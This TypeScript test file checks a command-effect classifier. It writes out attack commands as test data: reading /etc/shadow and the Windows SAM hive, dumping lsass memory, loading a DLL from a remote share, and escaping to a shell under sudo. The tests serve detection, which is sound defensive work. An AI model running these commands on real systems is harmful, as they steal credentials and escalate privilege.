/** Programs that nobody lists, and listed ones that did nothing known: what they are handed tells what they can do. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from '../../../../test/support/effects.ts';

test('a store of the system’s secrets is read by whichever program is handed it', () => {
  for (const command of [
    'zorp --conf /etc/shadow',
    'zorp -f/etc/shadow -q',
    'zorp man:/etc/gshadow',
    "zorp '\\input{/etc/shadow}'",
    './zorp /etc/shadow',
    'mtr -F /etc/shadow',
  ])
    assert.ok(effectsOf(command, 'shell').includes('reads_credentials everything'), command);
  assert.ok(
    effectsOf('zorp.exe /src:C:\\Windows\\System32\\config\\SAM', 'cmd').includes('reads_credentials everything'),
  );
  for (const command of ['zorp --conf /etc/zorp/zorp.conf', 'ls -l /etc/shadow'])
    assert.ok(!effectsOf(command, 'shell').some((kind) => kind.startsWith('reads_credentials')), command);
});

test('anyone who is pointed at the process that keeps the logins reads its memory', () => {
  assert.ok(effectsOf('zorp.exe -pn lsass.exe -o C:\\x', 'cmd').includes('reads_credentials everything'));
  assert.ok(!effectsOf('zorp.exe -pn notepad.exe -o C:\\x', 'cmd').some((kind) => kind.startsWith('reads_cred')));
});

test('a program of Windows starts what anybody can put there', () => {
  for (const command of [
    'zorp.exe C:\\Users\\Public\\a.exe',
    'zorp.exe /load:\\\\203.0.113.7\\share\\a.dll',
    'C:\\tools\\zorp.exe %PUBLIC%\\a.ps1',
  ])
    assert.ok(effectsOf(command, 'cmd').includes('runs_by_proxy one'), command);
  for (const command of [
    'zorp.exe C:\\work\\a.exe',
    'zorp.exe \\\\files\\setup\\a.msi',
    'zorp.exe C:\\Users\\Public\\a.txt',
  ])
    assert.ok(!effectsOf(command, 'cmd').includes('runs_by_proxy one'), command);
});

test('a shell in code of a program that runs with more rights keeps them', () => {
  for (const command of ["sudo zorp -e '!/bin/sh'", `sudo zorp 'exec("/bin/bash")'`, "sudo zorp call '/bin/sh;true'"])
    assert.ok(effectsOf(command, 'shell').includes('escalates one'), command);
  for (const command of ['sudo zorp --shell=/bin/bash ana', "sudo zorp -e '/bin/sh -c ls'", "zorp -e '!/bin/sh'"])
    assert.ok(!effectsOf(command, 'shell').includes('escalates one'), command);
});
